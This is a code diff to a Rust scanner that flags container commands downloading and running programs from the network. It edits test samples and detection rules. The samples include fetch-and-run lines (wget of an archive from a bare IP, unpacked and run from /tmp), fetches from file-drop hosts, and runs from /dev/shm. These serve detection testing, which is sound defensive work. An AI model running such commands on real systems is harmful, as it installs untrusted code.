@@ -1,7 +1,7 @@
 //! Programs and scripts that come over the network.
 
-use super::url::{Reach, is_dotted, target};
-use super::words::{cluster, has, only_prints, operands, option, words};
+use super::places::is_temporary;
+use super::words::{cluster, has, operands, option, words};
 use super::{COMMAND, Facts, Rule, Sample, Severity, each_match};
 use crate::detect::findings::Collector;
 use crate::detect::{code, derive};
@@ -142,6 +142,13 @@ pub(super) static RULES: &[Rule] = &[
                 30,
                 "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"00 t\" | sha256sum -c && chmod +x t && ./t']}]",
             ),
+            Sample::Hit(
+                30,
+                "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -sL https://x.example.test/helm.tgz | tar xz; mv linux/helm /usr/local/bin/; helm version']}]",
+            ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, 'curl -o /data/feed.json http://svc/feed && /app/import /data/feed.json']}]",
             ),
@@ -164,44 +171,6 @@ pub(super) static RULES: &[Rule] = &[
         samples: &[
             Sample::Hit(3, "containers: [{name: a, command: [curl, -sf, 'http://svc/health']}]"),
             Sample::Miss("containers: [{name: a, command: [echo, curl]}]"),
-        ],
-        ..COMMAND
-    },
-    Rule {
-        id: "cmd-suspicious-url",
-        message: "names a host without a name, or one where things are left anonymously",
-        meaning: "A public address instead of a name, a paste or file drop, a request catcher or a tunnel: the usual \
-                  places to fetch a payload from, and to send loot to.",
-        false_positives: "Services that have no name yet, tests of web hooks.",
-        severity: Severity::Low,
-        points: 10,
-        techniques: &["T1102", "T1105"],
-        check: |facts, found| each_match(facts, found, |_, _, invocation| names_odd_host(invocation)),
-        samples: &[
-            Sample::Hit(10, "containers: [{name: a, command: [curl, 'http://203.0.113.5/x']}]"),
-            Sample::Hit(10, "containers: [{name: a, command: [wget, 'https://transfer.sh/abc/x']}]"),
-            Sample::Hit(10, "containers: [{name: a, command: [git, clone, 'http://203.0.113.5/r.git']}]"),
-            Sample::Miss("containers: [{name: a, command: [curl, 'http://10.0.0.5:9090/-/ready']}]"),
-            Sample::Miss("containers: [{name: a, command: [curl, 'https://api.example.test/v1']}]"),
-            Sample::Miss("containers: [{name: a, command: [echo, 'http://203.0.113.5/x']}]"),
-        ],
-        ..COMMAND
-    },
-    Rule {
-        id: "cmd-temp-path-exec",
-        message: "runs a program from a directory for temporary files",
-        meaning: "What lies there was put there at run time, not by the image.",
-        false_positives: "Scripts that build or unpack their tools first.",
-        severity: Severity::Low,
-        points: 10,
-        techniques: &["T1059", "T1036.005"],
-        check: |facts, found| each_match(facts, found, |_, _, invocation| runs_temporary(invocation)),
-        samples: &[
-            Sample::Hit(10, "containers: [{name: a, command: [/tmp/x]}]"),
-            Sample::Hit(10, "containers: [{name: a, command: [sh, -c, 'nohup /dev/shm/.x/run &']}]"),
-            Sample::Hit(10, "containers: [{name: a, command: [bash, /var/tmp/s.sh]}]"),
-            Sample::Miss("containers: [{name: a, command: [/app/run, /tmp/input]}]"),
-            Sample::Miss("containers: [{name: a, command: [tar, xf, /tmp/a.tar]}]"),
         ],
         ..COMMAND
     },
@@ -261,7 +230,7 @@ pub(super) fn runs_input_of(
 fn runs_its_input(invocation: &Invocation) -> bool {
     let program = invocation.program.as_str();
     // Text that begins with what was substituted: `sh -c "$(curl …)"`, and not `sh -c "deploy $V"`.
-    let begins = |text: &str| text.trim_start().starts_with("$") || text.trim_start().starts_with("`");
+    let begins = |text: &str| text.trim_start().starts_with(['$', '`']);
     let operand = invocation.args.iter().find(|word| !word.text.starts_with('-'));
     match program {
         // Output that is known beforehand stands there already, marked as disguised.
@@ -305,13 +274,22 @@ pub(super) fn runs_written_file(
     is_source: &impl Fn(&Invocation) -> bool,
 ) -> Option<(usize, bool)> {
     let mut files: Vec<&str> = Vec::new();
-    let mut verified = false;
+    let mut fetched = false;
+    let (mut verified, mut unpacked) = (false, false);
     for (at, invocation) in execution.commands.iter().enumerate() {
         if is_source(invocation) {
             files.extend(written_files(invocation));
+            fetched = true;
             // Bounds the work: a script with more downloads than this is hit by the first ones.
             files.truncate(64);
             continue;
+        }
+        if matches!(invocation.program.as_str(), "tar" | "bsdtar" | "unzip" | "7z" | "cpio") {
+            unpacked |= fetched;
+        }
+        // An archive has many files: one that is run from a directory for temporary files is likely of it.
+        if unpacked && is_temporary(&invocation.path) {
+            return Some((at, true));
         }
         if files.is_empty() {
             continue;
@@ -409,41 +387,6 @@ fn written_files(invocation: &Invocation) -> Vec<&str> {
     }
     files.retain(|file| !matches!(*file, "-" | "" | "/dev/null" | "/dev/stdout" | "/dev/stderr"));
     files
-}
-
-/// Whether a network tool names a public address or a drop.
-fn names_odd_host(invocation: &Invocation) -> bool {
-    if only_prints(&invocation.program) {
-        return false;
-    }
-    let odd = |word: &str| {
-        target(word).is_some_and(|target| match target.reach() {
-            Reach::Drop => true,
-            Reach::Address => is_dotted(target.host) || word.contains("://"),
-            _ => false,
-        })
-    };
-    let is_net = is_downloader(invocation) || super::shells::is_netcat(&invocation.program);
-    words(invocation).any(|word| (word.contains("://") || is_net && is_dotted_word(word)) && odd(word))
-        || invocation
-            .redirects
-            .iter()
-            .any(|redirect| redirect.target.text.strip_prefix("/dev/tcp/").is_some_and(odd))
-}
-
-fn is_dotted_word(word: &str) -> bool {
-    target(word).is_some_and(|target| is_dotted(target.host))
-}
-
-const TEMPORARY: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/dev/mqueue/"];
-
-fn runs_temporary(invocation: &Invocation) -> bool {
-    let is_temporary = |path: &str| TEMPORARY.iter().any(|directory| path.starts_with(directory));
-    let takes_script = is_shell(&invocation.program) || code::language(&invocation.program).is_some();
-    is_temporary(&invocation.path)
-        || takes_script
-            && code::text(invocation).is_none()
-            && operands(invocation).next().is_some_and(is_temporary)
 }
 
 /// Whether something decodes, for the rules about hidden text.
